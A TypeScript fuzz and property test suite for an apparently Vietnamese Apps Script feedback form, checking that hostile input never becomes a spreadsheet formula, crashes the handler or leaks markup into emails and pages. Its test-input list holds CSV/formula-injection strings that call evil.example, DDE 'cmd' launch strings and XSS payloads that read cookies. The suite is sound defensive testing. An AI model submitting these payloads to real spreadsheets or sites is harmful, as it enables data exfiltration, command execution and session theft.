/**
 * Hostile input through submitFeedback and doGet on the built script: never throws, nothing becomes a formula,
 * every stored user cell is exactly the cleaned input, and no markup from input reaches the email or the page.
 */
import fc from 'fast-check';
import { newBox, payload, setConfigValue } from '../../sandbox/box';
import type { FakeHtmlOutput } from '../../sandbox/fakes/script';
import { cleanLine, cleanMultiline } from '../../src/core/intake/text';
import { normalizePhone } from '../../src/core/intake/validate';
import type { SubmitResult } from '../../src/shared/types';

const NAUGHTY = [
  '=IMPORTXML("http://evil.example/x","//a")',
  '=HYPERLINK("http://evil.example","Bấm vào đây")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '＝１＋１',
  '＋84912345678',
  '－１',
  '＠admin',
  "'=1+1",
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">xem</a>',
  '{{7*7}} ${7*7} <%= 7*7 %> <?= 7*7 ?>',
  'Phu\u031Bo\u031B\u0300ng Ho\u0300a Bi\u0300nh',
  'Phường Hòa Bình',
  'ma\u0300\u0300\u0300\u0300\u0300\u0300\u0300\u0300 dấu chồng',
  'a\u200Bb\u200Cc\u200Dd\uFEFFe\u2060f',
  '\u202Egnp.exe\u202C rác thải ở ngõ 5',
  'abc\u2066\u2067\u2068\u2069def xin cảm ơn',
  '\uD800 lone high and \uDC00 lone low surrogates here',
  'NULL\u0000char\u0007bell\u001B[31m escape codes',
  '0912345678',
  '00000000000000000000',
  'undefined',
  'null',
  'true',
  '1/2/2025',
  '%s%s%s%n%n',
  '\r\n\r\n\r\n\r\n tách dòng \r\r\r',
  '😀👨‍👩‍👧‍👦🇻🇳 biểu tượng cảm xúc',
];

function responsesRows(sb: ReturnType<typeof newBox>) {
  const sheet = sb.world.boxSpreadsheet()!.getSheetByName('Góp ý')!;
  const range = sheet.getDataRange();
  return { values: range.getValues().slice(1), formulas: range.getFormulas().slice(1) };
}

function longText(n: number): string {
  const unit = 'Đường ngõ 5 ngập nước mỗi khi mưa. ';
  return unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
}

test('every naughty string in every free-text field: no throw, no formula, stored exactly as cleaned, escaped in the email', () => {
  const sb = newBox();
  sb.world.gmail.dailyQuota = 100000;
  // A Workspace-sized quota in Cấu hình: every opinion here gets its own email at once (no batching).
  setConfigValue(sb, 'Hạn mức email mỗi ngày', '1500');
  for (const bad of NAUGHTY) {
    const content = `${bad} – nội dung góp ý đủ dài`;
    const p = payload({ content, name: bad, address: bad, consent: true });
    const res = sb.run<{ ok: boolean; trackingCode?: string; errors?: unknown[] }>('submitFeedback', [p]).value;
    if (!res.ok) {
      expect(res.errors!.length).toBeGreaterThan(0);
      continue;
    }
    const { values, formulas } = responsesRows(sb);
    const row = values.at(-1)!;
    expect(formulas.at(-1)!.every((f) => f === '')).toBe(true);
    expect(row[7]).toBe(cleanMultiline(content));
    expect(row[8]).toBe(cleanLine(bad));
    expect(row[11]).toBe(cleanLine(bad));
    const mail = sb.world.gmail.sent.at(-1)!;
    expect(mail.subject).toContain(res.trackingCode!);
    if (/[<>"]/.test(bad)) {
      expect(mail.htmlBody).not.toContain(cleanLine(bad));
    }
    // Escaped text may mention these words; no tag or attribute from input may appear.
    expect(mail.htmlBody).not.toMatch(/<script|<img|<a href="javascript|<[a-z]+ [^>]*onerror=/i);
  }
});

test('every naughty string in each of the other fields: a clear answer, never a throw, a formula or markup', () => {
  const sb = newBox();
  sb.world.gmail.dailyQuota = 100000;
  const fields = ['phone', 'email', 'location', 'category', 'kind', 'requestId', 'website'] as const;
  for (const field of fields) {
    for (const bad of NAUGHTY) {
      const rowsBefore = responsesRows(sb).values.length;
      const res = sb.run<SubmitResult>('submitFeedback', [payload({ [field]: bad, name: 'Lan', consent: true })]).value;
      const { values, formulas } = responsesRows(sb);
      if (res.ok) {
        // Only values that clean to something valid get in (e.g. a phone number); they are stored as literal text.
        expect(values).toHaveLength(rowsBefore + 1);
        expect(formulas.at(-1)!.every((f) => f === '')).toBe(true);
        if (field === 'phone') expect(values.at(-1)![9]).toBe(normalizePhone(bad));
        continue;
      }
      expect(values).toHaveLength(rowsBefore);
      expect(res.errors.length).toBeGreaterThan(0);
      for (const e of res.errors) {
        expect(e.message).toMatch(/[ạ-ỹ]/); // Vietnamese, ready to show
        expect(e.message).not.toContain(bad.trim() || '\u0000');
        // A field-level message points at the field that was poisoned; bots get one neutral message.
        if (e.field) expect(e.field).toBe(field === 'website' ? 'never' : field);
      }
    }
  }
  for (const mail of sb.world.gmail.sent) expect(mail.htmlBody).not.toMatch(/<script|<img|<a href="javascript|onerror=/i);
});

test('100 KB strings and a 1 MB payload are refused clearly, without a row', () => {
  const sb = newBox();
  for (const p of [
    payload({ content: longText(100 * 1024) }),
    payload({ content: longText(1024 * 1024) }),
    payload({ name: longText(100 * 1024) }),
  ]) {
    const res = sb.run<{ ok: boolean; errors: { message: string }[] }>('submitFeedback', [p]).value;
    expect(res.ok).toBe(false);
    expect(res.errors[0].message).toMatch(/[à-ỹ]/);
  }
  expect(responsesRows(sb).values).toHaveLength(0);
});

test('property: any strings in any fields never throw, and accepted rows hold exactly the cleaned text as literal text', () => {
  const sb = newBox();
  sb.world.gmail.dailyQuota = 100000;
  const text = fc.oneof(
    fc.string({ maxLength: 200 }),
    fc.string({ unit: 'grapheme', maxLength: 120 }),
    fc.constantFrom(...NAUGHTY),
    fc.string({ unit: 'binary', maxLength: 80 }),
  );
  fc.assert(
    fc.property(text, text, text, fc.boolean(), fc.anything(), (content, name, address, consent, junk) => {
      const before = responsesRows(sb).values.length;
      const p = payload({ content: `${content} góp ý số ${before}`, name, address, consent, extra: junk });
      const res = sb.run<{ ok: boolean; errors?: { message: string }[] }>('submitFeedback', [p]).value;
      const { values, formulas } = responsesRows(sb);
      if (!res.ok) {
        expect(values).toHaveLength(before);
        expect(res.errors!.every((e) => typeof e.message === 'string' && e.message.length > 0)).toBe(true);
        return;
      }
      expect(values).toHaveLength(before + 1);
      expect(formulas.at(-1)!.every((f) => f === '')).toBe(true);
      const row = values.at(-1)!;
      expect(row[7]).toBe(cleanMultiline(p.content));
      expect(row[8]).toBe(cleanLine(name));
      expect(row[11]).toBe(cleanLine(address));
      for (const cell of row) if (typeof cell === 'string') expect(cell).toBe(cell.normalize('NFC'));
    }),
    { numRuns: Number(process.env.FUZZ_RUNS || 150), seed: Number(process.env.FUZZ_SEED || 1128) },
  );
});

test('property: the page never echoes query values unescaped', () => {
  const sb = newBox();
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.constantFrom(...NAUGHTY)), fc.oneof(fc.string(), fc.constantFrom(...NAUGHTY)), (loc, track) => {
      const html = sb.run<FakeHtmlOutput>('doGet', [{ parameter: { loc, track, view: loc } }]).value.getContent();
      const boot = /id="boot">([\s\S]*?)<\/script>/.exec(html)![1];
      expect(boot).not.toMatch(/<|>/);
      if (/[<>]/.test(loc)) expect(html).not.toContain(loc);
      if (/[<>]/.test(track)) expect(html).not.toContain(track);
      JSON.parse(boot);
    }),
    { numRuns: 100, seed: 2811 },
  );
});
